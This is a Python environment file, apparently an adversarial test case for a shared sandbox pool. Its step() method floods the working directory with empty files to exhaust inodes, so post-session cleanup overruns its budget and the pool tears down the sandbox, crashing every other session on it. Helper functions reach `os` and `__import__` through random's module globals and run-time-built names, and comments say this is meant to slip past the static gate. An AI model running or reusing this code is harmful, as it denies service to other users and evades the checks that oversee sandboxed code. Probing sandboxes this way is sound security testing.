"""Makes the cleanup after its session cost more than the cleanup's budget: each step() spends `seconds` making
empty files (no bytes, so the tmp size cap never binds; only inodes), 5,000 to a directory, in its private
working directory. The episode has up to 25 steps of the call timeout to make them; the reaper has ONE call
timeout (the `end` budget) to delete them all. Past it, close() fails and the pool replaces the whole sandbox:
every other session on it is `crashed` (discarded plays, inconclusive audits), none of it the attacker's
"fault". `os` comes from random's module globals through a name built at run time."""

import random

U = "_"


def _reach(holder, name):
    # getattr on a parameter: the static gate can only judge getattr on a module's own name
    return getattr(holder, name)


def _os():
    # random's module globals, through a method of one of its classes and a name built at run time: the static gate
    # cannot read that (it says so: gates/static.py); what `os` may then do is the sandbox's guard's business
    fn = _reach(random.Random, "seed")
    return _reach(fn, "".join(("_", "_glo", "bals", "_", "_")))["_os"]


def _import(name):
    builtins = _reach(_reach, U * 2 + "globals" + U * 2)[U * 2 + "builtins" + U * 2]
    imp = U * 2 + "import" + U * 2
    return (builtins[imp] if isinstance(builtins, dict) else _reach(builtins, imp))(name)


class ManyFilesEnv:
    def __init__(self, max_turns=25, seconds=2.5, **kw):
        self.seconds, self.made, self.turn = seconds, 0, 0

    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        os = _os()
        self.turn += 1
        end = os.times().elapsed + self.seconds
        made = 0
        while os.times().elapsed < end:
            d = f"d{self.turn}-{made // 5000}"
            try:
                os.mkdir(d)
            except OSError:
                pass
            for _ in range(500):
                fd = os.open(f"{d}/{made}", os.O_CREAT | os.O_WRONLY, 0o600)
                os.close(fd)
                made += 1
        self.made += made
        return f"{self.made} files", 0.0, self.turn >= 25, False, {"files": self.made}
